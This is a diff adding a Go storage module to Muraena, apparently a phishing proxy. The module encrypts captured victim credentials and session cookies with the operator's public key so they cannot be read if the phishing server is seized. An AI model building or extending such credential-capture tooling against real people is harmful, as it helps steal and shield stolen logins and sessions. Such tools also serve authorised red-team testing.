@@ -0,0 +1,54 @@
+package db
+
+import (
+	"github.com/muraenateam/muraena/core"
+)
+
+// sealingKey is the public key sealing the captured values, nil if they are stored in clear
+var sealingKey *[32]byte
+
+// encryptedStorage seals the credential and cookie values with the operator public key before storing them,
+// so that the captured data cannot be read from the phishing server. The values are returned encrypted,
+// they can be decrypted offline with the private key (see -decrypt).
+// The values are always sealed, unless the credential was sealed by Seal: a captured value looking encrypted is
+// sealed again, and the restored values already sealed are opened twice by -decrypt.
+type encryptedStorage struct {
+	Storage
+	publicKey *[32]byte
+}
+
+// Seal seals the value of the credential with the storage public key, if any, before it is stored, logged or
+// notified, so that it never leaves Muraena in clear
+func (vc *VictimCredential) Seal() (err error) {
+	if sealingKey == nil || vc.sealed {
+		return
+	}
+
+	if vc.Value, err = core.Seal(vc.Value, sealingKey); err != nil {
+		return
+	}
+	vc.sealed = true
+	return
+}
+
+// StoreCredential implements the Storage interface
+func (s *encryptedStorage) StoreCredential(victimID string, c *VictimCredential) (err error) {
+	sealed := *c
+	if !c.sealed {
+		if sealed.Value, err = core.Seal(c.Value, s.publicKey); err != nil {
+			return
+		}
+	}
+
+	return s.Storage.StoreCredential(victimID, &sealed)
+}
+
+// StoreCookie implements the Storage interface
+func (s *encryptedStorage) StoreCookie(victimID string, c *VictimCookie) (err error) {
+	sealed := *c
+	if sealed.Value, err = core.Seal(c.Value, s.publicKey); err != nil {
+		return
+	}
+
+	return s.Storage.StoreCookie(victimID, &sealed)
+}